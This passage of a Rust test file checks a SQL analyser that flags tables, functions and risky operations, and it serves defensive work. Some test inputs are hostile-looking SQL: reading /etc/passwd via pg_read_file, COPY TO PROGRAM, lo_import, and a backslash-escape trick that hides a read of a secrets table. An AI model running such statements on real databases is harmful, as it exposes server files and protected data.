        "/* c */",
        ";",
        " ; ;; ",
        "/* a */ ; -- b",
    ] {
        assert_eq!(
            analyze(sql),
            Analysis::Parsed {
                statements: Vec::new()
            },
            "{sql:?}"
        );
    }
}

#[test]
fn analysis_serializes_with_a_result_tag() {
    let json = serde_json::to_value(analyze("delete from t")).unwrap();
    assert_eq!(json["result"], "parsed");
    assert_eq!(json["statements"][0]["kind"], "delete");
    assert_eq!(json["statements"][0]["flags"]["no_where"], true);
    let json = serde_json::to_value(analyze("selec")).unwrap();
    assert_eq!(json["result"], "unparsable");
}

#[test]
fn cache_hits_return_the_same_analysis() {
    let cache = AnalysisCache::new(8);
    assert!(cache.is_empty());
    let first = cache.analyze("select * from t");
    let again = cache.analyze("select * from t");
    assert!(Arc::ptr_eq(&first, &again));
    assert_eq!(cache.len(), 1);
    // Exact text: another spelling is another entry.
    let other = cache.analyze("SELECT * FROM t");
    assert!(!Arc::ptr_eq(&first, &other));
    let (Analysis::Parsed { statements: a }, Analysis::Parsed { statements: b }) =
        (&*first, &*other)
    else {
        panic!("did not parse");
    };
    assert_eq!(
        (&a[0].tables_read, &a[0].fingerprint),
        (&b[0].tables_read, &b[0].fingerprint)
    );
    assert_ne!(a[0].text, b[0].text);
    assert_eq!(cache.len(), 2);
    // Unparsable text is cached too.
    let bad = cache.analyze("selec");
    assert!(Arc::ptr_eq(&bad, &cache.analyze("selec")));
}

/// Whatever the cache answers for texts of `sql`'s shape with other
/// literals, after it analysed `sql`, equals a fresh analysis of each.
fn shape_sharing_agrees(sql: &str) {
    let cache = AnalysisCache::new(4);
    let first = cache.analyze(sql);
    assert_eq!(*first, analyze(sql), "{sql:?}");
    let spellings = [
        ("0", "0.0", "''"),
        ("987654321987654321", "3.25e-7", "'it''s; -- /* $$ \" é'"),
        ("42", ".5", "'DROP TABLE t'"),
    ];
    for (integer, numeric, string) in spellings {
        let Some(other) = super::shape::respell(sql, integer, numeric, string) else {
            return;
        };
        assert_eq!(
            *cache.analyze(&other),
            analyze(&other),
            "{sql:?} as {other:?}"
        );
    }
}

#[test]
fn statements_differing_in_literals_share_an_entry() {
    let cache = AnalysisCache::new(8);
    let a = cache.analyze("SELECT abalance FROM pgbench_accounts WHERE aid = 17;");
    let b = cache.analyze("SELECT abalance FROM pgbench_accounts WHERE aid = 4242;");
    assert_eq!(cache.len(), 1);
    let (Analysis::Parsed { statements: a }, Analysis::Parsed { statements: b }) = (&*a, &*b)
    else {
        panic!("did not parse");
    };
    assert_eq!(a[0].fingerprint, b[0].fingerprint);
    assert_eq!(
        b[0].text,
        "SELECT abalance FROM pgbench_accounts WHERE aid = 4242"
    );
    assert_eq!(
        b[0],
        one("SELECT abalance FROM pgbench_accounts WHERE aid = 4242")
    );

    // A literal the analysis reads: EXPLAIN's ANALYZE option decides
    // whether the DELETE runs, so each text is analysed on its own.
    let off = cache.analyze("EXPLAIN (ANALYZE 0) DELETE FROM t");
    let on = cache.analyze("EXPLAIN (ANALYZE 1) DELETE FROM t");
    assert_eq!(*off, analyze("EXPLAIN (ANALYZE 0) DELETE FROM t"));
    assert_eq!(*on, analyze("EXPLAIN (ANALYZE 1) DELETE FROM t"));
    assert_ne!(off, on);
    // Two statements in one text are never shared either.
    let two = cache.analyze("select 1; delete from t where id = 1");
    let other = cache.analyze("select 2; delete from t where id = 3");
    assert_eq!(*other, analyze("select 2; delete from t where id = 3"));
    assert!(!Arc::ptr_eq(&two, &other));
}

#[test]
fn cache_respects_its_capacity() {
    let cache = AnalysisCache::new(2);
    let a = cache.analyze("select a");
    let _b = cache.analyze("select b");
    // Touch "select a" so that "select b" is the least recently used.
    assert!(Arc::ptr_eq(&a, &cache.analyze("select a")));
    let _c = cache.analyze("select c");
    assert_eq!(cache.len(), 2);
    assert!(Arc::ptr_eq(&a, &cache.analyze("select a")));
    let b_again = cache.analyze("select b");
    assert!(!Arc::ptr_eq(&_b, &b_again), "select b was evicted");
    assert_eq!(cache.len(), 2);
    assert_eq!(cache.capacity(), 2);
}

#[test]
fn cache_skips_long_texts_and_zero_capacity() {
    let cache = AnalysisCache::new(4);
    let long = format!("select 1 {}", " ".repeat(MAX_CACHED_TEXT_LEN));
    let first = cache.analyze(&long);
    assert!(matches!(&*first, Analysis::Parsed { statements } if statements.len() == 1));
    assert_eq!(cache.len(), 0);

    let off = AnalysisCache::new(0);
    let x = off.analyze("select 1");
    assert!(!Arc::ptr_eq(&x, &off.analyze("select 1")));
    assert_eq!((off.len(), off.capacity()), (0, 0));
}

#[test]
fn column_references_are_shared_by_texts_of_one_shape() {
    let cache = AnalysisCache::new(8);
    let first = cache
        .column_refs(
            "SELECT upper(email) FROM customers WHERE id = 17",
            Reading::Standard,
        )
        .unwrap();
    let other = cache
        .column_refs(
            "SELECT upper(email) FROM customers WHERE id = 42",
            Reading::Standard,
        )
        .unwrap();
    assert!(Arc::ptr_eq(&first, &other), "same shape, one entry");
    assert_eq!(
        *other,
        crate::sql::column_refs(
            "SELECT upper(email) FROM customers WHERE id = 42",
            Reading::Standard
        )
        .unwrap()
    );
    // Another name is another shape.
    let name = cache
        .column_refs(
            "SELECT upper(name) FROM customers WHERE id = 42",
            Reading::Standard,
        )
        .unwrap();
    assert!(!Arc::ptr_eq(&first, &name));
    assert!(first.may_read(&["email"]) && !name.may_read(&["email"]));
    assert!(cache
        .column_refs("SELECT FROM WHERE", Reading::Standard)
        .is_none());
    let off = AnalysisCache::new(0);
    assert!(off
        .column_refs("SELECT email FROM customers", Reading::Standard)
        .is_some());
}

#[test]
fn cache_is_shared_across_threads() {
    let cache = Arc::new(AnalysisCache::new(64));
    let handles: Vec<_> = (0..4)
        .map(|t| {
            let cache = Arc::clone(&cache);
            std::thread::spawn(move || {
                for i in 0..50 {
                    let sql = format!("select c{}", (i + t) % 20);
                    assert!(matches!(&*cache.analyze(&sql), Analysis::Parsed { .. }));
                }
            })
        })
        .collect();
    for handle in handles {
        handle.join().unwrap();
    }
    assert_eq!(cache.len(), 20);
}

/// Every prefix of these statements (cut at each char boundary), and a set
/// of mutations of them, must analyse without panicking.
#[test]
fn any_prefix_or_mutation_analyses_without_panic() {
    let seeds = [
        "WITH d AS (DELETE FROM \"Ünïcode\" WHERE x = 'é€😀' RETURNING *) SELECT * FROM d; UPDATE t SET a = $1",
        "COPY (SELECT * FROM a JOIN b USING (id)) TO PROGRAM 'gzip > /tmp/x.gz' WITH (FORMAT csv)",
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED AND s.del THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (s.id)",
        "EXPLAIN (ANALYZE, FORMAT json) DELETE FROM ünï.\"tåble\" WHERE CURRENT OF c;",
        "DO $body$ BEGIN RAISE NOTICE '%', E'a\\'b;'; END $body$; /* nested /* comment */ */ SELECT 1",
        "DROP TABLE IF EXISTS a, \"B\".c CASCADE; GRANT SELECT ON ALL TABLES IN SCHEMA s TO r; BEGIN; SAVEPOINT x",
        "SELECT pg_read_file('/etc/passwd'), set_config('a', 'b', true) FROM generate_series(1, 3) g(i) -- end",
        "PREPARE p(int) AS UPDATE t SET a = (SELECT max(b) FROM u WHERE u.c = $1); EXECUTE p(1); DEALLOCATE p",
    ];
    let mut calls = 0usize;
    for seed in seeds {
        for (cut, _) in seed.char_indices().chain([(seed.len(), ' ')]) {
            let _ = analyze(&seed[..cut]);
            let _ = analyze(&seed[cut..]);
            calls += 2;
        }
    }
    // Deterministic mutations: replace, drop or duplicate a char.
    let mut state: u64 = 0x9e37_79b9_7f4a_7c15;
    let mut next = move || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state
    };
    let alphabet: Vec<char> = "();'\"$*/-\\ \nEé😀0aZ_.,[]".chars().collect();
    for seed in seeds {
        let chars: Vec<char> = seed.chars().collect();
        for _ in 0..40 {
            let mut mutated = chars.clone();
            for _ in 0..1 + next() % 3 {
                let at = (next() % mutated.len() as u64) as usize;
                let c = alphabet[(next() % alphabet.len() as u64) as usize];
                match next() % 3 {
                    0 => mutated[at] = c,
                    1 => {
                        mutated.remove(at);
                    }
                    _ => mutated.insert(at, c),
                }
            }
            let text: String = mutated.into_iter().collect();
            let _ = analyze(&text);
            calls += 1;
        }
    }
    assert!(calls > 1000);
}

/// Deep nesting ends in an error or a result, not a crash: the parser
/// bounds its stack, the tree decoder its recursion.
#[test]
fn deep_nesting_is_bounded() {
    for depth in [10, 60, 200, 2000] {
        let sum = format!("{}1{}", "(1 + ".repeat(depth), ")".repeat(depth));
        let calls = format!("{}1{}", "f(".repeat(depth), ")".repeat(depth));
        let selects = format!("{}1{}", "(SELECT ".repeat(depth), ")".repeat(depth));
        for sql in [
            format!("SELECT {sum}"),
            format!("EXPLAIN SELECT {sum}"),
            format!("EXPLAIN SELECT {selects}"),
            format!("DELETE FROM t WHERE id IN {selects} RETURNING {calls}"),
            format!("WITH d AS (DELETE FROM t RETURNING 1) SELECT {calls}"),
        ] {
            match analyze(&sql) {
                Analysis::Parsed { statements } => assert_eq!(statements.len(), 1),
                Analysis::Unparsable { error } => {
                    assert!(depth > 10, "{sql}: {error}");
                    assert!(
                        error.len() < 200 && (error.contains("deep") || error.contains("depth")),
                        "{error}"
                    );
                }
            }
        }
    }
}

/// Ways a client may hide a table or a function from a weaker analysis:
/// CTE names reused at another query level, statements embedded in other
/// statements, and functions a created object calls later.
#[test]
fn hidden_tables_and_functions_are_found() {
    check(&[
        // A CTE name hides a table only at its own level and below.
        case(
            "SELECT * FROM secrets WHERE EXISTS (WITH secrets AS (SELECT 1) SELECT 1)",
            K::Select,
            "SELECT",
        )
        .read(&["secrets"]),
        case(
            "SELECT (WITH customers AS (SELECT 1) SELECT 1), email FROM customers",
            K::Select,
            "SELECT",
        )
        .read(&["customers"]),
        case(
            "WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a, b",
            K::Select,
            "SELECT",
        )
        .read(&["b"]),
        case(
            "WITH RECURSIVE a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a",
            K::Select,
            "SELECT",
        ),
        case(
            "WITH x AS (SELECT 1) SELECT * FROM x, public.x",
            K::Select,
            "SELECT",
        )
        .read(&["public.x"]),
        case(
            "(WITH secrets AS (SELECT 1) SELECT * FROM secrets) UNION SELECT * FROM secrets",
            K::Select,
            "SELECT",
        )
        .read(&["secrets"]),
        case(
            "CREATE TABLE t AS SELECT * FROM secrets WHERE EXISTS (WITH secrets AS (SELECT 1) SELECT 1)",
            K::Create,
            "CREATE TABLE AS",
        )
        .read(&["secrets"])
        .written(&["t"]),
        // The target of a write is a table even where a CTE has its name.
        case(
            "WITH customers AS (SELECT 1) DELETE FROM customers",
            K::Delete,
            "DELETE",
        )
        .written(&["customers"])
        .flags(&["no_where"]),
        case(
            "WITH c AS (UPDATE customers SET email = 'x' RETURNING *) SELECT * FROM c",
            K::Select,
            "SELECT",
        )
        .written(&["customers"])
        .flags(&["no_where"]),
        // Statements inside statements.
        case(
            "CREATE SCHEMA y CREATE VIEW v AS SELECT * FROM secrets",
            K::Create,
            "CREATE SCHEMA",
        )
        .read(&["secrets"])
        .written(&["v"]),
        case(
            "CREATE RULE \"_RETURN\" AS ON SELECT TO t DO INSTEAD SELECT * FROM secrets",
            K::Create,
            "CREATE RULE",
        )
        .read(&["secrets"])
        .written(&["t"]),
        case(
            "CREATE RULE r AS ON INSERT TO t DO ALSO UPDATE customers SET email = NEW.e WHERE id = 1",
            K::Create,
            "CREATE RULE",
        )
        .written(&["customers", "t"]),
        case(
            "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT count(*) FROM secrets; END",
            K::Create,
            "CREATE FUNCTION",
        )
        .read(&["secrets"])
        .functions(&["count"]),
        // Inheritance and partition parents are written.
        case(
            "CREATE TABLE kid () INHERITS (customers)",
            K::Create,
            "CREATE TABLE",
        )
        .written(&["customers", "kid"]),
        case(
            "CREATE TABLE p1 PARTITION OF customers FOR VALUES IN (1)",
            K::Create,
            "CREATE TABLE",
        )
        .written(&["customers", "p1"]),
        case("ALTER TABLE kid INHERIT customers", K::Alter, "ALTER TABLE")
            .written(&["customers", "kid"]),
        // Relations a utility statement names count as written.
        case(
            "CREATE TABLE o (c int REFERENCES customers, LIKE secrets)",
            K::Create,
            "CREATE TABLE",
        )
        .written(&["customers", "o", "secrets"]),
        case("GRANT SELECT ON customers TO public", K::Grant, "GRANT")
            .written(&["customers"]),
        // Expressions stored in definitions call their functions later.
        case(
            "CREATE TABLE t (a text DEFAULT pg_read_file('/etc/passwd'))",
            K::Create,
            "CREATE TABLE",
        )
        .written(&["t"])
        .functions(&["pg_read_file"])
        .flags(&["server_file_access"]),
        case(
            "ALTER TABLE t ALTER COLUMN a SET DEFAULT set_config('a', 'b', false)",
            K::Alter,
            "ALTER TABLE",
        )
        .written(&["t"])
        .functions(&["set_config"])
        .flags(&["config_change"]),
        case(
            "CREATE OPERATOR ### (FUNCTION = pg_read_file, RIGHTARG = text)",
            K::Create,
            "CREATE OPERATOR",
        )
        .functions(&["pg_read_file"])
        .flags(&["server_file_access"]),
        case(
            "CREATE OPERATOR ### (PROCEDURE = pg_catalog.pg_read_file, LEFTARG = text)",
            K::Create,
            "CREATE OPERATOR",
        )
        .functions(&["pg_catalog.pg_read_file"])
        .flags(&["server_file_access"]),
        case(
            "CREATE CAST (text AS int8) WITH FUNCTION lo_import(text)",
            K::Create,
            "CREATE CAST",
        )
        .functions(&["lo_import"])
        .flags(&["server_file_access"]),
        case(
            "CREATE TRIGGER trg BEFORE INSERT ON customers FOR EACH ROW EXECUTE FUNCTION steal()",
            K::Create,
            "CREATE TRIGGER",
        )
        .written(&["customers"])
        .functions(&["steal"]),
        case(
            "CREATE POLICY p ON t USING (pg_read_file('x') IS NOT NULL)",
            K::Create,
            "CREATE POLICY",
        )
        .written(&["t"])
        .functions(&["pg_read_file"])
        .flags(&["server_file_access"]),
        case(
            "CREATE TYPE tt (INPUT = evil_in, OUTPUT = evil_out)",
            K::Create,
            "CREATE TYPE",
        )
        .functions(&["evil_in", "evil_out"]),
        // Options that are not function names stay options.
        case(
            "EXPLAIN (ANALYZE true) SELECT 1",
            K::Explain,
            "EXPLAIN ANALYZE",
        ),
        case(
            "COPY t FROM STDIN (FORMAT csv)",
            K::Copy,
            "COPY",
        )
        .written(&["t"]),
        // Cursors, RETURNING lists and CALL arguments.
        case(
            "DECLARE c CURSOR FOR WITH s AS (SELECT 1) SELECT * FROM secrets, s",
            K::Other,
            "DECLARE CURSOR",
        )
        .read(&["secrets"]),
        case(
            "INSERT INTO t VALUES (1) RETURNING (SELECT email FROM customers LIMIT 1)",
            K::Insert,
            "INSERT",
        )
        .read(&["customers"])
        .written(&["t"]),
        case(
            "CALL p((SELECT max(id) FROM secrets))",
            K::Call,
            "CALL",
        )
        .read(&["secrets"])
        .functions(&["max", "p"]),
    ]);
}

/// Statement texts come from the parser's offsets, in bytes, also after
/// multi-byte characters.
#[test]
fn statement_texts_after_multibyte_characters() {
    let Analysis::Parsed { statements } = analyze("SELECT 'ü€'; SELECT 'ß' AS \"ä\";") else {
        panic!("does not parse");
    };
    let texts: Vec<&str> = statements.iter().map(|s| s.text.as_str()).collect();
    assert_eq!(texts, ["SELECT 'ü€'", "SELECT 'ß' AS \"ä\""]);
}

/// One text, two statement lists: where backslashes escape (the server's
/// `standard_conforming_strings = off`) the quote after one does not end
/// the literal. The analysis reads the text as the session's server will,
/// and the cache never answers one reading with the other's analysis.
#[test]
fn backslashes_in_plain_literals_are_read_as_the_server_reads_them() {
    let hidden = "SELECT 'a\\''; SELECT value FROM secrets; --'";
    let read = |analysis: &Analysis| -> Vec<Vec<String>> {
        let Analysis::Parsed { statements } = analysis else {
            panic!("{hidden:?} did not parse: {analysis:?}");
        };
        statements
            .iter()
            .map(|s| s.tables_read.iter().map(show).collect())
            .collect()
    };
    let standard = analyze_read(hidden, Reading::Standard);
    let escapes = analyze_read(hidden, Reading::BackslashEscapes);
    assert_eq!(read(&standard), [Vec::<String>::new()], "one literal");
    assert_eq!(read(&escapes), [vec![], vec!["secrets".to_owned()]]);

    let cache = AnalysisCache::new(16);
    for _ in 0..2 {
        assert_eq!(read(&cache.analyze(hidden)), read(&standard));
        assert_eq!(
            read(&cache.analyze_read(hidden, Reading::BackslashEscapes)),
            read(&escapes)
        );
    }
    // Without a backslash the readings agree and share an entry.
    let plain = "SELECT 'a'";
    let first = cache.analyze_read(plain, Reading::BackslashEscapes);
    assert!(Arc::ptr_eq(&first, &cache.analyze(plain)));

    // Text that ends inside a literal under one reading only.
    let open = "SELECT 'a\\'";
    assert!(matches!(
        analyze_read(open, Reading::Standard),
        Analysis::Parsed { .. }
    ));
    assert!(matches!(
        analyze_read(open, Reading::BackslashEscapes),
        Analysis::Unparsable { .. }
    ));

    // A Unicode-escape string without a backslash: the server refuses it
    // where backslashes escape, and the cache keeps the readings apart.
    let unicode = "SELECT U&'d0061t'";
    assert!(matches!(*cache.analyze(unicode), Analysis::Parsed { .. }));
    assert!(matches!(
        *cache.analyze_read(unicode, Reading::BackslashEscapes),
        Analysis::Unparsable { .. }
    ));

    // Column references (masking) follow the same reading.
    let masked = "SELECT 'x\\'', email FROM customers --'";
    let refs = |reading| column_refs(masked, reading).map(|r| r.columns.contains("email"));
    assert_eq!(refs(Reading::BackslashEscapes), Ok(true));
    assert_eq!(refs(Reading::Standard), Ok(false));
}
